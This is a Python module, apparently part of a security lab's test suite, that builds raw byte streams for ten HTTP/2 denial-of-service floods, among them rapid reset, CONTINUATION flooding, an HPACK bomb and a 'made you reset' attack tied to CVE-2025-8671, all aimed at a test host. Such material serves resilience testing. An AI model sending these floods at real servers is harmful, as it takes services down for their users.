"""Floods on one HTTP/2 connection, as bytes. Each is far more than any client needs, and ends."""

import struct
from collections.abc import Callable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from pointsman.lab.attacks.streams import opening

MANY = 20_000


def _head(number: int, block: bytes, *flags: str) -> bytes:
    frame = HeadersFrame(number, block)
    for flag in flags:
        frame.flags.add(flag)
    return bytes(frame.serialize())


def _request() -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", "api.pay.test"), (":path", "/v1/flood")]
    return Encoder().encode(fields)


def _resets() -> bytes:
    block, flags = _request(), ("END_HEADERS", "END_STREAM")
    return b"".join(
        _head(1 + 2 * n, block, *flags) + bytes(RstStreamFrame(1 + 2 * n, 8).serialize()) for n in range(MANY)
    )


def _continuations() -> bytes:
    more = bytes(ContinuationFrame(1, b"\x00\x01x\x01y" * 1000).serialize())
    return _head(1, _request()) + more * 2000


def _settings() -> bytes:
    return bytes(SettingsFrame(0, {3: 100}).serialize()) * MANY


def _pings() -> bytes:
    return bytes(PingFrame(0, b"12345678").serialize()) * MANY


def _priorities() -> bytes:
    return bytes(PriorityFrame(1, 0, 5).serialize()) * MANY


def _window_updates() -> bytes:
    return _head(1, _request(), "END_HEADERS") + bytes(WindowUpdateFrame(1, 1).serialize()) * MANY


def _empty_data() -> bytes:
    return _head(1, _request(), "END_HEADERS") + bytes(DataFrame(1, b"").serialize()) * MANY


def _hpack_bomb() -> bytes:
    """One 4 kB entry in the table, and then thousands of references to it."""
    encoder = Encoder()
    block = _request() + encoder.encode([("x-bomb", "b" * 3900)])
    return _head(1, block + b"\xbe" * 15000, "END_HEADERS", "END_STREAM")


def _made_you_reset() -> bytes:
    """Streams that make the other side reset them: a window update of nothing (CVE-2025-8671)."""
    block = _request()
    fault = struct.pack("!I", 0)
    return b"".join(
        _head(1 + 2 * n, block, "END_HEADERS", "END_STREAM")
        + b"\x00\x00\x04\x08\x00"
        + struct.pack("!I", 1 + 2 * n)
        + fault
        for n in range(MANY)
    )


def _unread() -> bytes:
    block = _request()
    return b"".join(_head(1 + 2 * n, block, "END_HEADERS") for n in range(400))


_FLOODS: dict[str, Callable[[], bytes]] = {
    "rapid reset": _resets,
    "continuation": _continuations,
    "settings": _settings,
    "ping": _pings,
    "priority": _priorities,
    "window update": _window_updates,
    "empty data": _empty_data,
    "hpack bomb": _hpack_bomb,
    "made you reset": _made_you_reset,
    "400 open streams": _unread,
}


def flood(name: str) -> bytes:
    """Return the bytes of this flood, opening included."""
    return opening() + _FLOODS[name]()
